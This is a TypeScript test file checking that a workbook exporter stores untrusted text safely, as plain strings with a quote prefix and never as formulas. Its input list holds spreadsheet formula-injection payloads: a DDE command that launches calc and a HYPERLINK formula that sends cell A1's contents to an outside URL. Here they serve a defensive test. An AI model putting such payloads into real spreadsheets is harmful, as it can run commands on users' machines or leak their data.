import ExcelJS from 'exceljs'
import { unzipSync } from 'fflate'
import { beforeAll, expect, test } from 'vitest'
import type { Words } from '../../../src/config/words.ts'
import { archiveOf } from '../../../src/surfaces/workbook/archive.ts'
import type { Book, Cell } from '../../../src/surfaces/workbook/book.ts'
import { wordsOf } from '../../pages/fixtures.ts'
import { type ReadBook, readBack } from './read.ts'

/** Text that a source may hold, and what of it has to be read again where that is not the same. */
const hostile: [text: string, read?: string][] = [
  ["=cmd|'/C calc'!A0"],
  ['=HYPERLINK("http://example.com/?x="&A1,"click")'],
  ['+1+1'],
  ['-2+3'],
  ['@SUM(1)'],
  ['\tleading tab'],
  ['\rleading return'],
  ['＝1+1'],
  ['00123'],
  ['1e5'],
  ['2024-01-01'],
  ['TRUE'],
  ['😀 family: 👨‍👩‍👧 flag: 🇫🇷'],
  ['שלום עולם \u202eabc\u202c مرحبا'],
  ['a\u0001b\u001fc\u000bd'],
  ['nul\u0000here', 'nul\u2400here'],
  ['lone \ud83d high and \ude00 low', 'lone \ufffd high and \ufffd low'],
  ['\uffff \ufffe', '\ufffd \ufffd'],
  ['_x0041_ is no escape _x005F_ nor this'],
  ['<b>&amp;"quoted"</b> ]]>'],
  ['  spaces  around  '],
  ['lines\nof\r\ntext'],
]

let words: Words
let bytes: Uint8Array
let back: ReadBook
let other: ExcelJS.Workbook

const cell = (value: string): Cell => ({ value, look: { font: 'text' } })

function bookWith(texts: string[]): Book {
  const rows = texts.map((text) => ({ cells: [cell(text)] }))
  return {
    title: 'a\u0001 & <b>',
    language: 'en',
    at: '2024-06-30T23:59:14Z',
    sheets: [{ name: 'Texts', widths: [30], rows }],
  }
}

beforeAll(async () => {
  words = await wordsOf('en')
  bytes = await archiveOf(bookWith(hostile.map(([text]) => text)), words)
  back = await readBack(bytes)
  other = new ExcelJS.Workbook()
  await other.xlsx.load(bytes.buffer as ArrayBuffer)
})

test('hostile text is read again as the text that it was', () => {
  const read = [...(back.get('Texts')?.values() ?? [])].map(([text]) => text)
  expect(read).toEqual(hostile.map(([text, expected = text]) => expected))
})

test('another reader finds strings too, and not one formula', () => {
  const sheet = other.getWorksheet('Texts')
  const types = hostile.map((_, i) => sheet?.getCell(i + 1, 1).type)
  expect(new Set(types)).toEqual(new Set([ExcelJS.ValueType.String]))
  expect(sheet?.getCell('A1').value).toBe(hostile[0]?.[0])
  const parts = unzipSync(bytes)
  const xml = new TextDecoder().decode(parts['xl/worksheets/sheet1.xml'])
  expect(xml).not.toContain('<f>')
  expect(xml.match(/ t="s"/g)).toHaveLength(hostile.length)
})

test('what begins like a formula has the quote prefix, and only that', () => {
  const parts = unzipSync(bytes)
  const decode = (name: string) => new TextDecoder().decode(parts[name])
  const quoted = decode('xl/styles.xml')
    .split('<cellXfs')[1]
    ?.match(/<xf [^>]*>/g)
    ?.map((each) => each.includes('quotePrefix="1"'))
  const styles = [...decode('xl/worksheets/sheet1.xml').matchAll(/<c r="A\d+" s="(\d+)"/g)].map(([, style]) =>
    Number(style),
  )
  expect(styles.map((style) => quoted?.[style])).toEqual(hostile.map((_, i) => i < 8))
})

test('a text that Excel cannot hold is cut with a mark that counts the rest, never through a pair', async () => {
  const long = `=${'x'.repeat(40_000)}`
  const pairs = '😀'.repeat(20_000)
  const fits = 'y'.repeat(32_767)
  const read = await readBack(await archiveOf(bookWith([long, pairs, fits]), words))
  const [first = '', second = '', third] = [...(read.get('Texts')?.values() ?? [])].map(([text]) => text)
  const kept = (text: string) => text.replace(/ … \[cut here: ([\d,]+) more characters\]$/, '')
  const rest = (text: string) => Number(/cut here: ([\d,]+) more/.exec(text)?.[1]?.replaceAll(',', ''))
  for (const [text, whole] of [
    [first, long],
    [second, pairs],
  ] as const) {
    expect(text.length).toBeLessThanOrEqual(32_767)
    expect(whole.startsWith(kept(text))).toBe(true)
    expect(kept(text).length + rest(text)).toBe(whole.length)
    expect(text).not.toMatch(/\p{Surrogate}/u)
  }
  expect(third).toBe(fits)
})

test('the same book gives the same bytes, dated by its data alone', async () => {
  const again = await archiveOf(bookWith(hostile.map(([text]) => text)), words)
  expect(Buffer.from(again).equals(Buffer.from(bytes))).toBe(true)
  const core = new TextDecoder().decode(unzipSync(bytes)['docProps/core.xml'])
  expect(core).toContain('>2024-06-30T23:59:14Z</dcterms:created>')
  expect(core).toContain('>2024-06-30T23:59:14Z</dcterms:modified>')
})
